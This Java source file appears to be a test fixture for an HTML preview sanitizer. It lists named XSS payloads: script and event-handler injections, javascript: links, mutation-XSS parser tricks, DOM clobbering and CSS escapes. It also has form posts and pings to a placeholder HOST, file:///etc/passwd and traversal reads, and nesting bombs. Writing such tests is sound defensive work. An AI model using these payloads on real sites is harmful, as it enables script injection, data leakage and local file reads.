package genko.preview;

import java.util.LinkedHashMap;
import java.util.Map;

/**
 * Blocks of HTML that try to run, load, send, navigate or hang. Each that can says {@code
 * window.struck=1} when it runs, and what it loads it loads from {@code HOST}.
 */
public final class Attacks {
  private Attacks() {}

  /** The attacks by name, with {@code host} as the address that must not be asked for anything. */
  public static Map<String, String> at(String host) {
    Map<String, String> attacks = new LinkedHashMap<>();
    for (String line : LIST.lines().toList()) {
      int bar = line.indexOf('|');
      attacks.put(line.substring(0, bar).strip(), fill(line.substring(bar + 1).strip(), host));
    }
    attacks.put("quotes nested 10,000 deep", "<blockquote>".repeat(10_000) + "x");
    attacks.put("spans nested 10,000 deep", "<b><i>".repeat(5_000) + "x");
    attacks.put("tables nested 3,000 deep", "<table><tr><td>".repeat(3_000) + "x");
    attacks.put("lists nested 5,000 deep", "<ul><li>".repeat(5_000) + "x");
    attacks.put("100,000 attributes", "<p " + "a%d=1 ".repeat(100_000) + ">x</p>");
    attacks.put("a style of a million letters", "<p style='color:" + "a".repeat(1_000_000) + "'>x");
    attacks.put("50,000 unclosed tags", "<a href=#>".repeat(50_000));
    attacks.put("a NUL in a tag", "<scr\0ipt>window.struck=1</scr\0ipt>");
    attacks.put("a NUL in a scheme", "<a class=go href='java\0script:window.struck=1'>x</a>");
    attacks.put(
        "a line break in a scheme", "<a class=go href='java\nscript:window.struck=1'>x</a>");
    attacks.put("a lone surrogate", "<p>\ud842 <img src='\ud842.png' onerror=window.struck=1></p>");
    return attacks;
  }

  /** Layouts that try the same; some bring the post's front matter along unescaped. */
  public static Map<String, String> layouts(String host) {
    Map<String, String> attacks = new LinkedHashMap<>();
    for (String line : LAYOUTS.lines().toList()) {
      int bar = line.indexOf('|');
      String html = fill(line.substring(bar + 1).strip(), host);
      attacks.put(line.substring(0, bar).strip(), html.replace("PLACE", PageShell.PLACE));
    }
    attacks.put("a layout nested 10,000 deep", "<div>".repeat(10_000) + PageShell.PLACE);
    attacks.put("a layout of 100,000 attributes", "<p " + "a%d=1 ".repeat(100_000) + ">x</p>");
    attacks.put("a style of a million brackets", "<style>" + "a{b:(".repeat(200_000) + "</style>");
    attacks.put("a style of escapes", "<style>" + "\\75".repeat(200_000) + "</style>");
    return attacks;
  }

  private static final String LAYOUTS =
      """
      inline script | <script>RUN</script>PLACE
      script in the head | <head><script>RUN</script></head><body>PLACE
      script of the web | <script src="HOST/a.js"></script>PLACE
      module | <script type=module>RUN</script>PLACE
      body onload | <body onload=RUN onscroll=RUN>PLACE
      html handlers | <html onclick=RUN onmouseover=RUN><body>PLACE
      meta refresh | <head><meta http-equiv=refresh content="0;url=HOST/"></head>PLACE
      meta policy | <head><meta http-equiv=Content-Security-Policy content="default-src *"></head>PLACE
      base | <head><base href="HOST/"></head><link rel=stylesheet href=a.css><img src=a.png>PLACE
      style sheet of the web | <link rel=stylesheet href="HOST/a.css">PLACE
      style sheet without scheme | <link rel=stylesheet href="//127.0.0.1/a.css">PLACE
      style sheet as data | <link rel=stylesheet href="data:text/css,body{display:none}">PLACE
      preload | <link rel=preload as=image href="HOST/a.png"><link rel=prefetch href="HOST/b">PLACE
      icon and manifest | <link rel=icon href="HOST/a.ico"><link rel=manifest href="HOST/m">PLACE
      import | <style>@import "HOST/a.css";</style>PLACE
      import by escape | <style>@\\69mport url(HOST/a.css);</style>PLACE
      css url | <style>body{background:url(HOST/a.png)}</style>PLACE
      css url by escape | <style>body{background:\\75\\72\\6c(HOST/a.png)}</style>PLACE
      css url after a comment | <style>body{background:/**/url(/**/HOST/a.png)}</style>PLACE
      css url after a broken string | <style>a{b:'x}body{background:url(HOST/a.png)}</style>PLACE
      css image-set | <style>body{background:-webkit-image-set("HOST/a.png" 1x)}</style>PLACE
      css font | <style>@font-face{font-family:x;src:url(HOST/a.woff)}body{font-family:x}</style>PLACE
      css of attributes | <style>a[href^=h]{background:url(HOST/a.png)}</style><a href=h>x</a>PLACE
      css break out | <style>a{b:"</style><img src=x onerror=RUN>"}</style>PLACE
      css in an svg | <svg><style>@import "HOST/a.css";</style></svg>PLACE
      style attribute | <div style="background:url(HOST/a.png)">PLACE</div>
      style attribute by entity | <div style="background:u&#114;l(HOST/a.png)">PLACE</div>
      style of the body | <body style="background:url(HOST/a.png)">PLACE
      frame | <iframe src="HOST/"></iframe><iframe srcdoc="<script>parent.RUN</script>"></iframe>PLACE
      object and embed | <object data="HOST/a"></object><embed src="HOST/a">PLACE
      frameset | <frameset><frame src="HOST/"></frameset>
      form | <form action="HOST/send" onsubmit=RUN><button class=go formaction="HOST/b">x</button></form>PLACE
      field | <input autofocus onfocus=RUN><input type=image src="HOST/a.png">PLACE
      link | <a class=go href="javascript:RUN">x</a><a class=go ping="HOST/p" href="#">y</a>PLACE
      svg | <svg onload=RUN><script>RUN</script><image href="HOST/a.png"/><use href="HOST/a.svg#x"/></svg>PLACE
      svg animation | <svg><a><set attributeName=href to="javascript:RUN"/><animate onbegin=RUN /></a></svg>PLACE
      svg filter | <svg><path filter="url(HOST/a.svg#f)" fill="url(HOST/b.svg#g)" d="M0 0h9"/></svg>PLACE
      math | <math href="javascript:RUN"><mtext><img src=x onerror=RUN></mtext></math>PLACE
      image | <img src="HOST/a.png" onerror=RUN srcset="HOST/b.png 2x"><picture><source srcset="HOST/c"></picture>PLACE
      image of the machine | <img src="file:///etc/passwd"><link rel=stylesheet href="file:///etc/x.css">PLACE
      image of our own page | <img src="genko-page://app/page.html"><link rel=stylesheet href="genko-page://app/x.css">PLACE
      video | <video src="HOST/a.mp4" poster="HOST/a.png" onerror=RUN autoplay></video>PLACE
      template | <template><script>RUN</script></template><template shadowrootmode=open><img src=x onerror=RUN></template>PLACE
      noscript | <noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>PLACE
      our own ids | <a id=genko></a><form name=genkoBlocks></form><img name=katex><p id=genko-article>PLACE
      our own comments | <!--genko--><!--1--><!--/genko-->PLACE
      a place that somebody else makes | <p data-genko-place></p><div data-here data-genko-waits>PLACE</div>
      a place in a button | <button onclick=RUN class=go>PLACE</button>
      a place in a link | <a href="javascript:RUN" class=go>PLACE</a>
      a place in a table | <table onclick=RUN>PLACE</table>
      a place in a frame | <iframe>PLACE</iframe>
      a place in an svg | <svg><foreignObject onclick=RUN>PLACE</foreignObject></svg>
      no place | <script>RUN</script>
      nothing |
      """;

  private static String fill(String attack, String host) {
    return attack.replace("HOST", host).replace("RUN", "window.struck=1");
  }

  private static final String LIST =
      """
      script | <script>RUN</script>
      script from elsewhere | <script src="HOST/a.js"></script>
      script in capitals | <SCRIPT>RUN</SCRIPT>
      script cut in two | <scr<script>ipt>RUN</script>
      script unclosed | <script>RUN
      script of the post's folder | <script src="genko-image://v1/1/a.js"></script>
      module | <script type="module">RUN</script>
      img onerror | <img src=x onerror=RUN>
      img onerror without spaces | <img/src=x/onerror=RUN>
      img onload | <img src="a.png" onload="RUN">
      body onload | <body onload=RUN>
      onclick | <p onclick="RUN">x</p>
      onmouseover | <b onmouseover=RUN>x</b>
      onfocus | <p tabindex=0 autofocus onfocus=RUN>x</p>
      input onfocus | <input autofocus onfocus=RUN>
      details ontoggle | <details open ontoggle=RUN><summary>x</summary>y</details>
      onanimationstart | <p style="animation:a 1s" onanimationstart=RUN>x</p>
      marquee onstart | <marquee onstart=RUN>x</marquee>
      handler in capitals | <p OnClick=RUN>x</p>
      javascript link | <a class=go href="javascript:RUN">x</a>
      javascript in mixed case | <a class=go href="JaVaScRiPt:RUN">x</a>
      javascript by entities | <a class=go href="&#106;avascript&colon;RUN">x</a>
      javascript by padded entities | <a class=go href="&#0000106&#0000097vascript:RUN">x</a>
      javascript after a space | <a class=go href=" &#14; javascript:RUN">x</a>
      javascript with a tab | <a class=go href="java&Tab;script:RUN">x</a>
      vbscript link | <a class=go href="vbscript:RUN">x</a>
      data page link | <a class=go href="data:text/html,<script>RUN</script>">x</a>
      file link | <a class=go href="file:///etc/passwd">x</a>
      view-source link | <a class=go href="view-source:file:///etc/passwd">x</a>
      jar link | <a class=go href="jar:file:///a.jar!/x">x</a>
      blob link | <a class=go href="blob:null/1">x</a>
      link to our own page | <a class=go href="genko-page://app/page.js">x</a>
      link with target | <a class=go target=_blank href="javascript:RUN">x</a>
      ping | <a ping="HOST/ping" href="#">x</a>
      download | <a download href="data:text/plain,x">x</a>
      area | <map name=m><area class=go href="javascript:RUN" shape=default></map>
      svg onload | <svg onload=RUN></svg>
      svg script | <svg><script>RUN</script></svg>
      svg link | <svg><a class=go xlink:href="javascript:RUN"><text y=9>x</text></a></svg>
      svg animate | <svg><a><animate attributeName=href values="javascript:RUN" /></a></svg>
      svg use | <svg><use href="HOST/a.svg#x"/></svg>
      svg image | <svg><image href="HOST/a.png"/></svg>
      svg foreignObject | <svg><foreignObject><iframe src="javascript:RUN"></iframe></foreignObject></svg>
      svg style | <svg><style><img src=x onerror=RUN></style></svg>
      math link | <math><maction actiontype="statusline" xlink:href="javascript:RUN">x</maction></math>
      math href | <math href="javascript:RUN"><mtext>x</mtext></math>
      math to html | <math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>
      math annotation | <math><annotation-xml encoding="text/html"><script>RUN</script></annotation-xml></math>
      math tex script | <script type="math/tex"></script><img src=x onerror=RUN></script>
      mutation by noscript | <noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>
      mutation by title | <title><a title="</title><img src=x onerror=RUN>">
      mutation by textarea | <textarea><a title="</textarea><img src=x onerror=RUN>">
      mutation by comment | <!--><img src=x onerror=RUN>-->
      mutation by comment end | <!-- --!><img src=x onerror=RUN> -->
      mutation by cdata | <svg><![CDATA[</svg><img src=x onerror=RUN>]]></svg>
      mutation by xmp | <xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>
      mutation by plaintext | <plaintext><img src=x onerror=RUN>
      mutation by template | <template><img src=x onerror=RUN></template>
      mutation by select | <select><option><style></option></select><img src=x onerror=RUN></style></select>
      mutation by form | <form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>
      conditional comment | <!--[if gte IE 4]><script>RUN</script><![endif]-->
      processing instruction | <?xml-stylesheet href="javascript:RUN"?><?php RUN ?>
      iframe | <iframe src="HOST/a.html"></iframe>
      iframe javascript | <iframe src="javascript:parent.RUN"></iframe>
      iframe srcdoc | <iframe srcdoc="<script>parent.RUN</script>"></iframe>
      iframe file | <iframe src="file:///etc/passwd"></iframe>
      frameset | <frameset><frame src="javascript:RUN"></frameset>
      object | <object data="HOST/a.swf"></object>
      object data page | <object data="data:text/html,<script>parent.RUN</script>"></object>
      embed | <embed src="javascript:RUN">
      applet | <applet code="A.class" codebase="HOST/"></applet>
      form to elsewhere | <form action="HOST/send"><button class=go>x</button></form>
      form javascript | <form action="javascript:RUN"><input type=submit class=go></form>
      formaction | <button class=go formaction="javascript:RUN">x</button>
      input image | <input type=image src="HOST/a.png" onerror=RUN>
      meta refresh | <meta http-equiv="refresh" content="0;url=HOST/">
      meta refresh javascript | <meta http-equiv="refresh" content="0;url=javascript:RUN">
      meta policy | <meta http-equiv="Content-Security-Policy" content="default-src *">
      base | <base href="HOST/"><img src="a.png">
      stylesheet | <link rel="stylesheet" href="HOST/a.css">
      prefetch | <link rel="prefetch" href="HOST/a"><link rel="dns-prefetch" href="HOST/">
      style import | <style>@import url(HOST/a.css);</style>
      style that hides the page | <style>body{display:none}</style>
      css url | <p style="background:url(HOST/a.png)">x</p>
      css url by escape | <p style="background:\\75rl(HOST/a.png)">x</p>
      css url in a color | <p style="color:red;background-color:url(HOST/a.png)">x</p>
      css image-set | <p style="list-style-image:image-set('HOST/a.png' 1x)">x</p>
      css expression | <p style="width:expression(RUN)">x</p>
      css binding | <p style="-moz-binding:url(HOST/a.xml)">x</p>
      css comment | <p style="background/**/:/**/url(HOST/a.png)">x</p>
      css cover | <p style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9">x</p>
      css break out | <p style="color:red}body{display:none">x</p>
      css content | <p style="content:url(HOST/a.png)">x</p>
      remote image | <img src="HOST/a.png">
      image without a scheme | <img src="//127.0.0.1/a.png">
      image with backslashes | <img src="\\\\127.0.0.1\\a.png">
      srcset | <img src="a.png" srcset="HOST/a.png 2x">
      picture source | <picture><source srcset="HOST/a.png"><img src="a.png"></picture>
      lowsrc | <img lowsrc="HOST/a.png" dynsrc="HOST/b.png" src="a.png">
      file image | <img src="file:///etc/passwd">
      data svg image | <img src="data:image/svg+xml,<svg onload=RUN>">
      image above the blog | <img src="../../../../etc/passwd">
      image above by escapes | <img src="..%2f..%2f%2e%2e/etc/passwd">
      video | <video src="HOST/a.mp4" poster="HOST/a.png" autoplay onerror=RUN></video>
      audio | <audio src="HOST/a.mp3" autoplay></audio>
      video source | <video autoplay><source src="HOST/a.mp4" onerror=RUN></video>
      track | <video><track src="HOST/a.vtt"></video>
      table background | <table background="HOST/a.png"><tr><td background="HOST/b.png">x</table>
      font and bgsound | <bgsound src="HOST/a.wav"><font face="x" onclick=RUN>x</font>
      cite | <blockquote cite="javascript:RUN">x</blockquote><q cite="HOST/q">x</q>
      clobbering | <img name=getElementById><a id=genko-body></a><a id=genko name=apply></a><form name=body>
      clobbering the document | <a id=document></a><img id=host><img name=currentScript>
      our own names | <img data-src="HOST/a.png"><span class="genko-missing" data-kind="<img src=x onerror=RUN>">x</span>
      attribute break out | <a title='"><img src=x onerror=RUN>'>x</a>
      alt break out | <img src="HOST/a.png" alt="<img src=x onerror=RUN>">
      unknown element | <x-attack onclick=RUN><img src=x onerror=RUN></x-attack>
      custom element is | <p is="x-attack" contenteditable>x</p>
      popover | <button popovertarget=p class=go>x</button><p id=p popover onbeforetoggle=RUN>x</p>
      access key | <p accesskey=x onclick=RUN>x</p>
      xml namespace | <x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>
      columns without end | <table><tr><td colspan=65534 rowspan=65534>x</table>
      our comment | <!--1--><p>x</p>
      """;
}
